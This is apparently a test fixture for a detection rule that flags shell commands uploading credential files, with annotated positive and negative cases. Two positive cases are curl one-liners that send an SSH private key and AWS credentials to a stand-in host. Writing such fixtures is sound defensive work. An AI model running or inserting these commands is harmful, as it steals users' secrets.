#!/bin/sh
# ruleid: generic-credential-file-upload
curl -s -F "k=@$HOME/.ssh/id_rsa" https://drop.example.invalid/u
# ruleid: generic-credential-file-upload
cat ~/.aws/credentials | curl -s -d @- https://drop.example.invalid/a
# ok: generic-credential-file-upload
curl -fsS -F "file=@dist/app.tar.gz" "$RELEASE_UPLOAD_URL"
# ok: generic-credential-file-upload
chmod 600 ~/.ssh/id_rsa
